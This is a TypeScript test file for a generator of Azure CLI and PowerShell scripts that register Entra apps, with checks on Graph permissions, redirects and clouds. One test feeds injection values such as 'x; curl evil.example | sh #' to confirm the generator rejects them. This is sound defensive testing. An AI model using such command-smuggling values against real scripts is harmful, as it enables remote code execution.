import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import {
  lackingPermissions,
  permissionsFor,
  tasksOf,
  type GraphTask,
} from '../../../src/authorization/entra/graphPermissions.ts';
import { hasSetupScript, setupScript, type SetupRequest } from '../../../src/authorization/entra/setupScript.ts';

const request: SetupRequest = {
  shell: 'azureCli',
  tenantId: '11111111-2222-3333-4444-555555555555',
  cloud: 'global',
  permissions: permissionsFor(['provision']),
  use: 'signIn',
};

/** Runs a script of bash with an `az` that writes down what it's asked. */
function runWithFakeAz(script: string): { readonly calls: readonly string[]; readonly output: string } {
  const az = `az() { printf 'az %s\\n' "$*" >&2; case "$*" in
    *'app create'*) echo client-1;;
    *'sp show --id 00000003'*) expr "$*" : ".*value=='\\([^']*\\)'.*" | sed 's/^/id-of-/';;
    *'sp show --id client-1'*) return 1;;
  esac; }
  sleep() { :; }`;
  const { stdout, stderr, status } = spawnSync('bash', ['-c', `${az}\n${script}`], { encoding: 'utf8', cwd: '/' });
  assert.equal(status, 0, stderr);
  return { calls: stderr.split('\n').filter((line) => line.startsWith('az ')), output: stdout };
}

describe('a setup script for the Azure CLI', () => {
  it('makes the app registration with the redirects of VS Code’s sign-in and exactly the permissions', () => {
    const { calls, output } = runWithFakeAz(setupScript(request));
    assert.deepEqual(
      calls.filter((call) => call.includes('permission add')).map((call) => /id-of-(\S+)/.exec(call)?.[1]),
      ['User.Read.All=Scope', 'GroupMember.Read.All=Scope', 'Application.Read.All=Scope'],
    );
    assert.ok(
      calls.some((call) => call.includes('--public-client-redirect-uris https://vscode.dev/redirect http://localhost')),
    );
    assert.ok(calls.some((call) => call.includes('--tenant 11111111-')));
    assert.ok(calls.some((call) => call.includes('sp create --id client-1')));
    assert.match(calls.at(-1) ?? '', /admin-consent --id client-1/);
    assert.match(output, /Application \(client\) ID: client-1/);
  });

  it('gives an application its permissions by itself, and no redirects', () => {
    const { calls } = runWithFakeAz(setupScript({ ...request, use: 'application', cloud: 'china' }));
    assert.ok(calls.some((call) => call.includes('id-of-User.Read.All=Role')));
    assert.ok(!calls.some((call) => call.includes('redirect')));
    assert.equal(calls[0], 'az cloud set --name AzureChinaCloud');
  });

  it('takes nothing from a job file that could be a command', () => {
    const hostile = { ...request, tenantId: 'x; curl evil.example | sh #' };
    for (const shell of ['azureCli', 'powerShell'] as const)
      assert.doesNotMatch(setupScript({ ...hostile, shell }), /evil/);
    assert.throws(() => setupScript({ ...request, permissions: ["'; calc"] }));
  });

  it('isn’t offered where the Azure CLI can’t reach the cloud’s Graph', () => {
    assert.ok(!hasSetupScript('azureCli', 'usGovernmentDoD'));
    assert.ok(hasSetupScript('powerShell', 'usGovernmentDoD'));
  });
});

describe('a setup script for PowerShell', () => {
  it('names every permission, the cloud and the redirects', () => {
    const script = setupScript({ ...request, shell: 'powerShell', cloud: 'usGovernmentDoD' });
    assert.match(script, /-Environment USGovDoD -TenantId '11111111/);
    for (const name of request.permissions) assert.equal(script.split(`'${name}'`).length, 3, name);
    assert.match(script, /'https:\/\/vscode\.dev\/redirect', 'http:\/\/localhost'/);
    assert.match(script, /New-MgOauth2PermissionGrant/);
    const alone = setupScript({ ...request, shell: 'powerShell', use: 'application' });
    assert.match(alone, /New-MgServicePrincipalAppRoleAssignment/);
    assert.doesNotMatch(alone, /RedirectUris/);
  });
});

describe('the permissions of a job', () => {
  const notification = {
    email: 'a@contoso.com',
    via: 'graph',
    onFailure: true,
    digest: 'never',
    includeNames: false,
    from: 'b@contoso.com',
    webhook: null,
  } as const;

  it('follow from its executor and from how it notifies', () => {
    const of = (executor: 'local' | 'entra', via: 'graph' | 'smtp'): readonly GraphTask[] =>
      tasksOf({ executor, provisioning: { notification: { ...notification, via } } });
    assert.deepEqual(of('local', 'smtp'), ['provision']);
    assert.deepEqual(of('local', 'graph'), ['provision', 'sendMail']);
    assert.ok(permissionsFor(of('entra', 'smtp')).includes('Synchronization.ReadWrite.All'));
    assert.ok(!permissionsFor(of('local', 'graph')).includes('Synchronization.ReadWrite.All'));
  });

  it('that are lacking are told, but not those that a wider one includes', () => {
    const needed = permissionsFor(['assign']);
    assert.deepEqual(lackingPermissions(needed, ['Directory.Read.All']), ['AppRoleAssignment.ReadWrite.All']);
    assert.deepEqual(lackingPermissions(needed, needed), []);
  });
});
